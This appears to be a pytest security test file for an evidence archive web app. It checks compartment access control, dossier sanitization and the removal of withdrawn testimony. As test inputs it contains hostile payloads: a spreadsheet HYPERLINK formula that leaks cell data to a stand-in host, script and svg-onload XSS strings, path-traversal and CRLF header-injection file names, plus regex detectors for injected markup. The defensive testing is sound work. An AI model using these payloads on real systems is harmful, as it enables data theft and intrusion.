"""The ways round a closed door that a penetration test of a like system found, each shut here.

The numbers are those of that test (BAY-01-…): nearly all reached a thing that was closed through
another thing that was open. Tarik may do nearly everything, in the general compartment; what
stands in ``sealed`` is Mara's alone. He knows the identifier of every single thing in it. That
updates are signed (017) asks nothing of a program that fetches none.

The page of each thing, by each role, is in ``test_access_matrix``; here is what goes round it.
"""

import io
import re
from dataclasses import dataclass, replace
from datetime import timedelta

import pytest
from archive.testimony import answers, complete
from PIL import Image
from web.sitting import PASSPHRASE, Person, Watch, begin, copy_of, words_of

from habeas.archive import access_log, custody, exhibits, groupings, statements, stores, traces
from habeas.evidence.custody import EventKind
from habeas.words.consents import Use
from habeas.words.errors import NotThere
from habeas.words.progress import silent
from habeas.words.roles import Role
from habeas.workspace import (
    blind_reading,
    checkpoints,
    checks,
    closed_words,
    compartments,
    deciding,
    findings,
    interviews,
    members,
    searches,
    telling,
    translations,
)
from habeas.workspace.adding import add
from habeas.workspace.deciding import Seen
from habeas.workspace.opening import GENERAL, now, open_workspace
from habeas.workspace.originals import Originals, whole
from habeas.workspace.reading import read
from habeas.workspace.weighing import weigh
from habeas.workspace.written import Written

CANARY = "zitterrochen"
TARIK = "a kettle sings in the kitchen"
ROLES = (Role.DOCUMENTER, Role.REVIEWER, Role.CASEWORKER)
REPORT = (
    f"Police beat three men in Keld on 3 March 2026, witnesses told {CANARY.capitalize()} Radio. "
    f"“Nobody was beaten,” {CANARY.capitalize()} Hasimel said.\n\n"
    "The ministry denied that anybody was beaten. As many as 40 men were held in the town.\n"
)
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"open")'
SCRIPT = "<script>alert(1)</script>"


@dataclass(frozen=True)
class Kept:
    """The open and the closed compartment, and what stands in each, by what it is."""

    general: str
    sealed: str
    open: dict[str, str]
    closed: dict[str, str]
    folder: object

    @property
    def here(self):
        return f"/in/{self.general}"


def things_in(workspace, name, noted=CANARY):
    """One of everything, made where there is none; ``noted`` is what the team writes of it."""
    store = workspace.store(name)
    held = (one.identifier for one in exhibits.exhibits(store))
    exhibit = next(one for one in held if len(statements.statements(store, one)) > 1)
    said, other = (one.identifier for one in statements.statements(store, exhibit)[:2])
    incident = groupings.incidents(store)[0].identifier
    deciding.accept(workspace, name, Seen(said, 0), f"Read by {noted}.")
    text = "\n".join(f"{'' if name == GENERAL else CANARY} in other words." for _ in range(3))
    checks.make_checkpoint(workspace, name)
    return {
        "exhibit": exhibit,
        "statement": said,
        "other": other,
        "incident": incident,
        "edge": traces.trace(store).edges[0].key,
        "finding": findings.begin(workspace, name, written(incident, said, name)).identifier,
        "rendition": translations.add(
            workspace, name, exhibit, translations.Translated(text, "en", "T-1")
        ),
        "sample": blind_reading.draw(workspace, name, name, 1),
        "search": searches.save(workspace, name, searches.Sought(noted), name).identifier,
    }


def written(incident, said, name):
    return Written(
        incident, f"Was {name} told?", standard="reasonable grounds to believe",
        outcome="established", result="Yes.", reasons=f"{name} says so.",
        would_change="The register.", relied_on={said: "Saw it."},
    )  # fmt: skip


@pytest.fixture(scope="module")
def kept(tmp_path_factory, example):
    folder = copy_of(example, tmp_path_factory.mktemp("paths") / "velmara")
    report = tmp_path_factory.mktemp("report") / f"{CANARY}.txt"
    report.write_text(REPORT, encoding="utf-8")
    with open_workspace(folder, PASSPHRASE) as workspace:
        members.add(workspace, ("Tarik",), TARIK, ROLES)
        compartments.new(workspace, ("sealed",))
    with open_workspace(folder, PASSPHRASE) as workspace:
        list(add(workspace, (report,), "sealed", f"From {CANARY}.", silent))
        list(read(workspace, (), False, silent))
        weigh(workspace, "sealed", silent)
        begun = interviews.begin(workspace, "sealed")
        interviews.fill(workspace, "sealed", begun, complete(f"{CANARY} came at night."), 0)
        interviews.finish(workspace, "sealed", begun, 1)
        closed = {**things_in(workspace, "sealed"), "interview": begun}
        opened = things_in(workspace, GENERAL, "Mara")
        ids = [workspace.store(name).identifier for name in (GENERAL, "sealed")]
    return Kept(*ids, opened, closed, folder)


@pytest.fixture(scope="module")
def tarik(kept):
    sessions = begin(kept.folder, Watch())
    person = Person(sessions.desk, TARIK)
    assert person.sign_in().status_code == 302
    yield person
    for session in sessions.all():
        sessions.end(session)
    stores.close_stores()


def says_nothing(kept, answer, *besides):
    """A page without a word, a name or an identifier of the closed compartment.

    But for what the person who asks has typed: a page leads back to its own address.
    """
    text, asked = answer.content.decode().casefold(), answer.wsgi_request.get_full_path()
    assert CANARY not in text
    assert ">sealed<" not in text
    told = {kept.sealed, *kept.closed.values()} - {*besides}
    assert {thing for thing in told if thing in text and thing not in asked} == set()


def test_001_the_history_of_a_closed_thing_is_not_told_through_an_open_compartment(kept, tarik):
    for name, thing in kept.closed.items():
        assert tarik.get(f"{kept.here}/records/of/{thing}").status_code == 404, name
        listed = tarik.get(f"{kept.here}/records/history", thing=thing)
        says_nothing(kept, listed, thing)
        assert "rows" not in words_of(listed)
    says_nothing(kept, tarik.get(f"{kept.here}/records/history"))
    with pytest.raises(NotThere):
        tarik.workspace.store("sealed")


def test_002_the_text_of_a_closed_exhibit_is_on_no_page(kept, tarik):
    exhibit, said = kept.closed["exhibit"], kept.closed["statement"]
    for where in (
        f"exhibits/{exhibit}", f"reading/exhibits/{exhibit}", f"reading/exhibits/{exhibit}/missed",
        f"reading/statements/{said}", f"testimony/translations/{exhibit}",
        f"testimony/translations/{exhibit}/new",
        f"testimony/translations/{exhibit}/{kept.closed['rendition']}",
        # A rendition of a closed exhibit, asked for with an exhibit that is open.
        f"testimony/translations/{kept.open['exhibit']}/{kept.closed['rendition']}",
        f"reading/blind/{kept.closed['sample']}/1", f"reading/blind/{kept.closed['sample']}",
    ):  # fmt: skip
        answer = tarik.get(f"{kept.here}/{where}", at="0-20", part="1")
        assert answer.status_code == 404, where
        says_nothing(kept, answer)


def test_003_015_026_nothing_closed_is_taken_out(kept, tarik, tmp_path):
    out = tmp_path / "out.html"
    assert tarik.post(f"{kept.here}/exhibits/{kept.closed['exhibit']}/save").status_code == 404
    assert tarik.get(f"/in/{kept.sealed}/records/checkpoints/1").status_code == 404
    for take in (
        lambda: telling.tell(tarik.workspace, "sealed", out),
        lambda: telling.tell(tarik.workspace, kept.sealed, out),
        lambda: checkpoints.export(tarik.workspace, "sealed", out),
        lambda: whole(tarik.workspace, GENERAL, kept.closed["exhibit"]),
        lambda: whole(tarik.workspace, kept.sealed, kept.closed["exhibit"]),
    ):
        with pytest.raises(NotThere):
            take()
    assert not out.exists()
    telling.tell(tarik.workspace, GENERAL, out)
    assert CANARY not in out.read_text(encoding="utf-8").casefold()


def test_what_is_taken_out_stands_in_both_logs(kept, tarik):
    exhibit = kept.open["exhibit"]
    assert tarik.post(f"{kept.here}/exhibits/{exhibit}/save").status_code == 200
    general, me = tarik.workspace.general, tarik.session.member
    events = [e.member for e in custody.events(general, exhibit) if e.kind is EventKind.EXPORTED]
    looks = access_log.page(general, access_log.Wanted(me, exhibit, access_log.Action.EXPORTED))
    assert (events, looks.total) == ([me], 1)


def test_010_no_relation_leads_from_an_open_thing_to_a_closed_one(kept, tarik):
    one, other = kept.open["exhibit"], kept.closed["exhibit"]
    for where in (
        f"origins/compare/{one}/{other}", f"origins/compare/{other}/{one}",
        f"origins/exhibits/{other}", f"origins/statements/{kept.closed['statement']}",
        f"origins/incidents/{kept.closed['incident']}", f"origins/edges/{kept.closed['edge']}",
        f"incidents/{kept.closed['incident']}/statements", f"findings/{kept.closed['finding']}",
    ):  # fmt: skip
        answer = tarik.get(f"{kept.here}/{where}")
        assert answer.status_code == 404, where
        says_nothing(kept, answer)
    for where in ("origins", "origins/families", "origins/quotations", "origins/questions",
                  "origins/originals", "origins/decided", "bodies", "incidents"):  # fmt: skip
        says_nothing(kept, tarik.get(f"{kept.here}/{where}"))


@pytest.mark.parametrize("end", ["original", "original/preview", "original/1", "original/999999"])
def test_009_012_neither_bytes_nor_facts_of_a_closed_original_are_given(kept, tarik, end):
    for compartment in (kept.general, kept.sealed):
        where = f"/in/{compartment}/exhibits/{kept.closed['exhibit']}/{end}"
        answer = tarik.get(where)
        assert answer.status_code == 404
        says_nothing(kept, answer)
    with pytest.raises(NotThere):
        Originals().original(tarik.workspace, GENERAL, kept.closed["exhibit"])


def test_011_018_many_at_once_reaches_no_more_than_one_by_one(kept, tarik):
    before = custody_of(kept)
    chosen = [kept.closed["exhibit"]]
    tarik.post(f"{kept.here}/exhibits/read", what="again", chosen=chosen)
    assert "Choose at least one exhibit" in tarik.sees(f"{kept.here}/exhibits")
    incident = f"{kept.here}/incidents/{kept.open['incident']}"
    for do, closed in (("join", kept.closed["incident"]), ("split", kept.closed["statement"])):
        for answer in (
            tarik.get(f"{incident}/{do}", step="preview", chosen=closed),
            tarik.post(f"{incident}/{do}", chosen=[closed], reason="Together."),
        ):
            says_nothing(kept, answer, closed)
            assert answer.status_code != 302
    merged = {"merge-other": kept.closed["other"], "merge-reason": "One sentence.", "seen": "1"}
    answer = tarik.post(f"{kept.here}/reading/statements/{kept.open['statement']}/merge", **merged)
    says_nothing(kept, answer, kept.closed["other"])
    assert answer.status_code != 302
    assert custody_of(kept) == before


def custody_of(kept):
    """How often anything was changed in the closed store, by its size on the disk."""
    return sorted(
        (path.name, path.stat().st_size)
        for path in kept.folder.rglob("*")
        if path.is_file() and kept.sealed in str(path)
    )


def test_a_finding_can_neither_weigh_nor_lay_out_a_closed_statement(kept, tarik):
    closed, where = kept.closed["statement"], f"{kept.here}/findings/new"
    told = {"incident": kept.open["incident"], "about": "", "question": "Was anybody beaten?"}
    laid = tarik.post(where, **told, do="lay", more=closed)
    weighed = {f"weight-{closed}": "relied on", f"why-{closed}": "Saw it."}
    kept_it = tarik.post(where, **told, do="save", **weighed)
    for answer in (laid, kept_it):
        says_nothing(kept, answer, closed)
        assert answer.status_code != 302


def test_021_no_list_names_what_is_closed_nor_that_it_is_there(kept, tarik):
    mara = tarik.workspace.general
    assert mara is not None
    for where in (
        "/", "/members", "/members/you", "/compartments", "/search", "/jobs",
        *(f"/members/{one.identifier}" for one in members.members(tarik.workspace)),
        *(f"{kept.here}/{one}" for one in (
            "exhibits", "reading", "reading/all", "reading/blind", "findings", "testimony",
            "testimony/ask", "records", "records/history", "incidents/timeline", "incidents/map",
            "incidents/decisions",
        )),
    ):  # fmt: skip
        answer = tarik.get(where)
        assert answer.status_code == 200, where
        says_nothing(kept, answer)
    says_nothing(kept, tarik.get("/search", q="beaten", compartment=kept.sealed), kept.sealed)
    assert CANARY not in tarik.get("/search", q="Hasimel").content.decode().casefold()


def test_021_what_others_looked_for_is_told_to_no_colleague(kept, tarik):
    assert kept.closed["search"] not in tarik.get("/search").content.decode()
    where = f"/in/{kept.general}/searches/{kept.open['search']}/forget"
    assert tarik.post(where).status_code == 404  # Mara's own, in a compartment that is open


def test_022_what_is_under_review_is_changed_by_nobody_and_reviewed_by_no_author(kept, tarik):
    told = written(kept.open["incident"], kept.open["statement"], "anybody")
    made = findings.begin(tarik.workspace, GENERAL, told).identifier
    findings.issue(tarik.workspace, GENERAL, made)
    where = f"{kept.here}/findings/{made}"
    own = tarik.post(f"{where}/review", opinion="agrees", remarks="Mine is right.")
    assert own.status_code == 200
    tarik.post(f"{where}/write", do="save", question="Another question", seen="9")
    tarik.post(f"{where}/discard")
    page = tarik.sees(where)
    assert "Was anybody told?" in page
    assert "Another question" not in page
    assert "Mine is right." not in re.sub(r"<textarea.*?</textarea>", "", page)


def test_022_nobody_sees_or_changes_the_draft_of_another(kept, tarik):
    where = f"{kept.here}/findings/{kept.open['finding']}"
    assert tarik.get(where).status_code == 404
    assert tarik.get(f"{where}/write").status_code == 404
    assert tarik.post(f"{where}/write", do="save", question="Mine now", seen="1").status_code == 404
    assert tarik.post(f"{where}/discard").status_code == 404
    assert tarik.get(f"{kept.here}/records/of/{kept.open['finding']}").status_code in (200, 404)
    assert (
        "general says so"
        not in tarik.get(f"{kept.here}/records/of/{kept.open['finding']}").content.decode()
    )


@pytest.fixture
def outgoing(desk, mara, tmp_path):
    """A dossier of a report whose name, words and reason mean ill."""
    place = tmp_path / "in"
    place.mkdir()
    report = (
        f"Twelve men were detained in Orlo on Friday, the spokesman Imre {SCRIPT} Solt said. "
        f"“There are no such people {SCRIPT}”, the ministry told The {FORMULA} Courier.\n"
    )
    (place / f"{FORMULA[:11]}<svg onload=alert(1)>.txt").write_text(report, encoding="utf-8")
    list(add(mara.workspace, (place,), GENERAL, "Given by the cousin of R. in secret.", silent))
    list(read(mara.workspace, (), False, silent))
    said = next(r for r in statements.read_reports(mara.workspace.general) if r.statements)
    said = said.statements[0].identifier
    deciding.reject(mara.workspace, GENERAL, Seen(said, 0), f"{SCRIPT} no news")
    weigh(mara.workspace, GENERAL, silent)
    telling.tell(mara.workspace, GENERAL, tmp_path / "dossier.html")
    return (tmp_path / "dossier.html").read_text(encoding="utf-8")


def test_008_034_039_no_script_goes_out_with_a_dossier(outgoing):
    assert "&lt;script&gt;alert(1)" in outgoing
    assert not re.search(r"<(?:script|iframe|object|embed|form|base)\b", outgoing)
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", re.sub(r'"[^"]*"', '""', outgoing))
    assert not re.search(r"""href=["']?\s*(?:javascript|data|vbscript):""", outgoing, re.IGNORECASE)
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', outgoing)[1]
    assert policy.startswith("default-src &#x27;none&#x27;;")
    assert "script-src" not in policy
    assert "unsafe" not in policy


def test_025_a_dossier_asks_for_nothing_from_elsewhere(outgoing):
    asked = re.findall(
        r"""<(?:img|link|source|video|audio)\b[^>]*(?:src|href)=["']([^"']+)""", outgoing
    )
    assert [one for one in asked if not one.startswith("data:")] == []
    assert re.findall(r"@import|url\((?!\s*[\"']?data:)", outgoing) == []


def test_346_what_the_team_notes_for_itself_is_in_no_dossier(outgoing):
    assert "cousin of R." not in outgoing


def test_024_nothing_the_program_writes_is_a_formula(mara):
    checks.make_checkpoint(mara.workspace, GENERAL)
    note = mara.get(f"/in/{mara.general}/records/checkpoints/1")
    assert note.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert note.headers["Content-Disposition"].startswith("attachment;")
    lines = note.content.decode().splitlines()
    assert [line for line in lines if re.match(r"[=+@\t-].*[(|!]", line)] == []


def test_024_no_page_hands_out_a_table_to_calculate_with():
    """Were there one, each of its cells would have to be proof against formulas."""
    from house.source import SOURCE

    texts = {path: path.read_text(encoding="utf-8") for path in (SOURCE / "web").rglob("*.py")}
    handing_out = {path.name for path, text in texts.items() if "Content-Disposition" in text}
    assert handing_out == {"media.py", "checking.py"}
    assert [path for path, text in texts.items() if re.search("csv|openpyxl|xlsx", text)] == []


NAMES = (
    "../../../etc/passwd", "..\\..\\autoexec.bat", "/etc/passwd", "a\r\nSet-Cookie: x=1.txt",
    'a"; filename="b.exe', "\u202egpj.exe", "con.txt", "......", "имя письма.txt",
    "x" * 300 + ".txt",
)  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_004_a_name_leads_out_of_no_folder_and_into_no_header(mara, tmp_path, name):
    before = {path for path in tmp_path.rglob("*") if "vault" not in path.parts}
    content = io.BytesIO(b"Nobody is held, the spokesman said.")
    content.name = "report.txt"
    where = f"/in/{mara.general}/exhibits"
    answer = mara.post(f"{where}/add", file=content, name=name, why="", part="1")
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "application/json"
    (exhibit,) = [x.identifier for x in exhibits.exhibits(mara.workspace.general) if x.name == name]
    saved = mara.post(f"{where}/{exhibit}/save").headers["Content-Disposition"]
    assert saved.startswith("attachment; filename")
    assert not re.search(r"[\r\n/\\\u202e]|\.\.", saved.replace("''", ""))
    assert saved.count('"') in (0, 2)
    assert "Set-Cookie" not in mara.get(f"{where}/{exhibit}").headers
    assert {path for path in tmp_path.rglob("*") if "vault" not in path.parts} <= before | {
        path for path in tmp_path.rglob("*") if "compartments" in path.parts
    }


def turned():
    """A picture 40 wide and 20 high that says it is to be turned by a quarter."""
    drawn, told = Image.new("RGB", (40, 20), "#803020"), Image.Exif()
    told[0x0112] = 6
    told[0x010E] = CANARY
    held = io.BytesIO()
    drawn.save(held, "JPEG", exif=told)
    held.seek(0)
    held.name = "gate.jpg"
    return held


def test_357_a_picture_is_shown_upright_and_without_what_its_file_says(mara):
    where = f"/in/{mara.general}/exhibits"
    mara.post(f"{where}/add", file=turned(), why="", part="1")
    (exhibit,) = [
        x.identifier for x in exhibits.exhibits(mara.workspace.general) if x.name == "gate.jpg"
    ]
    answer = mara.get(f"{where}/{exhibit}/original/1")
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    with Image.open(io.BytesIO(answer.content)) as shown:
        assert shown.size == (20, 40)
        assert dict(shown.getexif()) == {}
    assert CANARY.encode() not in answer.content


# What a person took back goes by the same ways.


@pytest.fixture
def told(desk, mara):
    """Words read, decided on, drawn in a sample, weighed in findings; until a day from now."""
    compartments.new(mara.workspace, ("testimony",))
    mara.desk.refresh()
    workspace, here = mara.workspace, "testimony"
    begun = interviews.begin(workspace, here)
    until = tuple(replace(one, until=now().date() + timedelta(days=30)) for one in answers())
    interviews.fill(workspace, here, begun, complete(REPORT, until), 0)
    exhibit = interviews.finish(workspace, here, begun, 1)
    list(read(workspace, (), False, silent))
    weigh(workspace, here, silent)
    things = things_in(workspace, here, "the team") | {"interview": begun, "exhibit": exhibit}
    issued = findings.begin(
        workspace, here, written(things["incident"], things["statement"], here)
    ).identifier
    findings.issue(workspace, here, issued)
    return workspace.store(here).identifier, {**things, "issued": issued}


def pages_with_its_words(person, told):
    """The pages of a compartment on which a word of the testimony stands."""
    from web.test_access_matrix import ABSENT, address, pages

    compartment, things = told
    known = {**ABSENT, **things, "first": things["exhibit"], "second": things["exhibit"],
             "thing": things["statement"], "decision": "d-000000000000"}  # fmt: skip
    where = {name: address(held, compartment, known) for name, held in pages(True)}
    where["issued"] = f"/in/{compartment}/findings/{things['issued']}"
    found = set()
    for name, asked in where.items():
        answer = person.client.get(asked)
        if CANARY in b"".join(answer).decode("utf-8", "replace").casefold():
            found.add(name)
    return found


def test_words_that_were_taken_back_are_on_no_page(mara, told):
    assert len(pages_with_its_words(mara, told)) > 20
    interviews.withdraw(mara.workspace, "testimony", told[1]["interview"], list(Use), "")
    assert sorted(pages_with_its_words(mara, told)) == []
    assert CANARY not in mara.get("/").content.decode().casefold()
    assert CANARY not in mara.get("/search", q="Keld").content.decode().casefold()


def test_words_given_until_a_day_are_on_no_page_after_it(mara, told, monkeypatch):
    def later():
        return now() + timedelta(days=31)

    for place in (closed_words, interviews):
        monkeypatch.setattr(place, "now", later)
    Person(mara.desk).sign_in()
    assert sorted(pages_with_its_words(mara, told)) == []


def test_words_opened_again_are_shown_again(mara, told):
    before = pages_with_its_words(mara, told)
    begun = told[1]["interview"]
    interviews.withdraw(mara.workspace, "testimony", begun, list(Use), "")
    seen = interviews.held(mara.workspace, "testimony", begun).changes
    interviews.answer(mara.workspace, "testimony", begun, answers(), "She feels safe now.", seen)
    assert pages_with_its_words(mara, told) == before
